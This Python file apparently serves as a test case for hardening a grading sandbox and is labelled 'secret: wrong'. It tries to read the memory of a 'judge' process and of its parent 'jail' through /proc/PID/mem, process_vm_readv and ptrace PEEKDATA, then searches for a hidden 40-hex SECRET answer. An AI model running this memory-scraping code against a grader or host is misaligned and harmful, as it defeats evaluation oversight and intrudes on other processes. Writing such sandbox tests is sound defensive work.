"""Search the memory of the judge and of the jail for the expected value.

secret: wrong
"""

import ctypes
import os
import re

from stage import JUDGE

PTRACE_PEEKDATA, PTRACE_ATTACH, PTRACE_SEIZE = 2, 16, 0x4206
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.restype = ctypes.c_long
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]


def regions(process):
    """Where it has memory; where a program usually has it, if that is not told."""
    try:
        with open(f"/proc/{process}/maps") as maps:
            for line in maps:
                first, last = line.split()[0].split("-")
                yield int(first, 16), int(last, 16) - int(first, 16)
    except OSError:
        yield ctypes.addressof(ctypes.py_object.in_dll(ctypes.pythonapi, "PyExc_OSError")), 65536
        yield id(object), 65536


def from_file(process, start, size):
    with open(f"/proc/{process}/mem", "rb", buffering=0) as memory:
        memory.seek(start)
        return memory.read(size)


def from_call(process, start, size):
    buffer = ctypes.create_string_buffer(size)
    here = (ctypes.c_void_p * 2)(ctypes.addressof(buffer), size)
    there = (ctypes.c_void_p * 2)(start, size)
    libc.process_vm_readv(process, here, 1, there, 1, 0)
    return buffer.raw


def traced(process, start, _size):
    for request in (PTRACE_SEIZE, PTRACE_ATTACH):
        libc.ptrace(request, process, None, None)
    words = [libc.ptrace(PTRACE_PEEKDATA, process, start + 8 * i, None) for i in range(64)]
    return b"".join(word.to_bytes(8, "little", signed=True) for word in words)


def secret():
    for process in (JUDGE, os.getppid()):
        for start, size in regions(process):
            for way in (from_file, from_call, traced):
                try:
                    memory = way(process, start, min(size, 1 << 20))
                    if found := re.search(rb"SECRET[^0-9a-f]{1,40}([0-9a-f]{40})", memory):
                        return found[1].decode()
                except OSError:
                    continue
